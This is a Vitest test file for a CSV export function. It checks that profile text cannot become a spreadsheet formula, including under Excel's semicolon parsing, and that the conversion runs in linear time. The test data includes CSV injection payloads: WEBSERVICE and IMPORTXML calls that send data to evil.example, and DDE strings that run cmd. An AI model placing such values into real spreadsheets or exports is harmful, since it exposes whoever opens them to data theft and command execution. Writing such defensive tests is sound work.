import { expect, test } from 'vitest';
import { csvOf } from '../../../pipeline/rows/csv.ts';
import { cpuMs } from '../../harness/cpu-time.ts';

const cellOf = (text: unknown) => csvOf(['bio', 'end'], [[text, 1]]).slice('bio,end\r\n'.length, -',1\r\n'.length);

/**
 * Splits a CSV as Excel does in countries with a decimal comma: the separator is a semicolon, and quotes count only at
 * the start of a cell.
 */
function cellsWithSemicolons(csv: string): string[] {
  return csv.split(/[;\r\n]/).map((cell) => cell.trimStart());
}

test.each([
  'nice;=HYPERLINK("http://evil.example")',
  'nice; =WEBSERVICE("http://evil.example/"&A1);more',
  "line\n=cmd|'/c calc'!A0",
  "line\r\n -2+3+cmd|'/c calc'!A0",
  'line\n\n@SUM(1+1)*9',
  'nice;+IMPORTXML("http://evil.example")',
  'nice;\uff1dHYPERLINK("http://evil.example")',
])('no cell of the CSV of the text %j begins with a formula in Excel with semicolons', (text) => {
  const csv = csvOf(['url', 'bio', 'followers'], [['https://www.instagram.com/a/', text, 5]]);
  expect(cellsWithSemicolons(csv).filter((cell) => /^[=+\-@\uff1d]/.test(cell))).toEqual([]);
});

test.each([
  ['hello ;-) friends', 'hello ;-) friends'],
  ['  =HYPERLINK("x")', `"  '=HYPERLINK(""x"")"`],
  ['photos by\n@anna and @bert', '"photos by\n@anna and @bert"'],
  ['- travel\n- food', '"\'- travel\n- food"'],
  [-5, '-5'],
  ['', ''],
])('the text %j is readable and no formula in CSV', (text, cell) => {
  expect(cellOf(text)).toBe(cell);
});

test('an empty cell of a CSV with one column is not an empty line, which many programs skip', () => {
  expect(csvOf(['likes'], [[null], [5], ['']])).toBe('likes\r\n""\r\n5\r\n""\r\n');
});

test('a CSV text of 100,000 semicolons, spaces or line breaks is converted in linear time', async () => {
  const spent = await cpuMs(() => {
    for (const part of [';', ' ', '\n', ';=', '; =', ' =']) csvOf(['bio'], [[part.repeat(100_000)]]);
  });
  expect(spent).toBeLessThan(5_000);
});
